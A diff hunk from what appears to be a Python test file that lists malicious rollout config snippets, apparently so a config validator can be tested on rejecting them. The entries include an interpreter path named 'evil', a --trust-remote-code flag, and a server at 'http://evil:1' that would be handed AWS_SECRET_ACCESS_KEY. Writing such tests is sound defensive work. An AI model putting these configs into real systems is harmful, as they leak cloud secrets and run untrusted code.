@@ -17,7 +17,7 @@ NOBODY = 65534
 QUICKSTART = Path(__file__).parents[2] / "examples" / "quickstart"
 CODE = {
     "reward": "reward: {function: 'timeit:timeit'}",
-    "interpreter": "rollout: {engine: sglang, servers: {python: /tmp/evil}}",
+    "interpreter": "rollout: {engine: sglang, servers: {python: evil/python}}",
     "flags": "rollout: {engine: vllm, servers: {flags: ['--trust-remote-code']}}",
     "secret": "rollout: {engine: sglang, servers: {addresses: ['http://evil:1'], api_key_env: AWS_SECRET_ACCESS_KEY}}",
 }
